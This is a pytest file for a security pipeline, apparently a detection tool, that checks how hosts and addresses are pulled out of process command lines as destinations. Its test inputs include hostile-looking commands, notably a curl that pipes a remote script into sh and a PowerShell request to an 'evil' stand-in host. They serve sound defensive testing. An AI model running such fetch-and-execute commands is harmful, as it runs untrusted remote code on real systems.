"""What a command line speaks of besides what the source says."""

from __future__ import annotations

import pytest

from tocsin.core.event import Columns
from tocsin.pipeline.normalise.mentions import DESTINATION, mentions


@pytest.mark.parametrize(
    ("command_line", "named"),
    [
        ("curl -s http://203.0.113.66/u.sh | sh", ("address", "203.0.113.66")),
        ("wget 'https://user:word@files.example.org:8443/x'", ("domain", "files.example.org")),
        ("curl http://[2001:db8::1]:80/x", ("address", "2001:db8::1")),
        ('powershell -c "iwr http://EVIL.example.org"', ("domain", "evil.example.org")),
    ],
)
def test_the_urls_of_a_command_line_say_where_it_leads(command_line: str, named: tuple[str, str]):
    found = mentions(Columns(time=0, ingest_time=0, process__cmd_line=command_line))
    assert [(one.entity.kind, one.entity.value) for one in found if one.role == DESTINATION] == [named]


def test_a_command_line_of_nothing_but_urls_is_read_in_bounds():
    found = mentions(Columns(time=0, ingest_time=0, process__cmd_line="http://a.example " * 100_000))
    assert len(found) <= 8
